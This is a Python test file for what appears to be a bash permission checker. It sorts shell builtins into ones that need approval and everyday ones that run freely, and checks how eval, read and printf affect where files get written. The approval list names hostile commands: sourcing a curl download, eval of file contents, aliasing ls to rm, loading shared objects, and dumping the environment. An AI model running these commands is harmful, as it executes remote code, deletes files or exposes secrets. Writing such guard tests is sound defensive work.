"""What bash does itself."""

from .. import allowed, stopped, told

ACTS = """
eval 'rm x'
eval rm x
eval "$(cat x)"
eval $x
eval -- rm x
source ./evil.sh
. /tmp/x
. <(echo rm x)
source <(curl x.example)
source /dev/stdin
trap 'rm x' EXIT
trap "git push" INT TERM
trap "$x" EXIT
alias ls='rm x'
hash -p /tmp/x ls
enable -f ./x.so y
complete -C 'rm x' y
compgen -C 'rm x' y
bind -x '"\\C-a": rm x'
shopt -s expand_aliases
shopt -s extglob
shopt -u lastpipe
set -a
set -k
set -o allexport
set -o posix
exec rm x
exec < file; bash
mapfile -C 'rm x;:' -c 1 < a
readarray -C f a
read -r 'a[$(x)]'
declare -n r=c
typeset -n r=c
export -f f
unset -f ls
unset 'a[$(x)]'
history -w ../x
fc -s x
jobs -x rm a
command rm x
builtin eval 'rm x'
printenv
export -p
declare -p
declare -x
set
env
"""


def test_builtins_that_run_reveal_or_change_what_names_mean_ask() -> None:
    assert allowed(ACTS) == []


QUIET = """
eval ls
eval 'cd src && ls'
source .venv/bin/activate && pytest -q
trap 'echo bye' EXIT; ls
trap - INT
set -euo pipefail
set -x; ls; set +x
set -- a b; echo $1
set -o pipefail
shopt -s nullglob globstar
read -r line < a; echo "$line"
IFS=, read -r a b c <<< "1,2,3"
mapfile -t lines < a
export NO_COLOR=1
declare -a x; declare -A y; declare -r z=1
local x=1
readonly X=1
unset x
printf -v x '%s' a
alias
jobs -l
type -a git
command -v rg
getopts ab x
shift 2
let x=1
exit 0
wait
hash -r
compgen -c git
"""


def test_everyday_builtins_run() -> None:
    assert stopped(QUIET) == []


def test_eval_changes_this_shell() -> None:
    assert told("eval 'cd ..'; touch x") == {"write_out /home/dev/x", "write_ws x"}
    assert told("eval x=src; touch $x/y") == {"write_ws src/y"}


def test_what_read_takes_is_what_flows_in() -> None:
    assert told("git ls-files | while read -r f; do touch $f; done") == {"read .", "write_ws …"}
    assert told("read x <<< src; touch $x/a") == {"write_ws src/a"}
    assert "write_out" in " ".join(told("read x y <<< 'a /etc'; touch $y"))


def test_echo_and_printf_give_what_they_print() -> None:
    assert told("touch $(echo src)/a") == {"write_ws src/a"}
    assert told("touch $(printf src)/a $(printf '%s' b)") == {"write_ws src/a", "write_ws b"}
    assert "write_out" in " ".join(told("touch $(printf 'a\\x2fb')"))
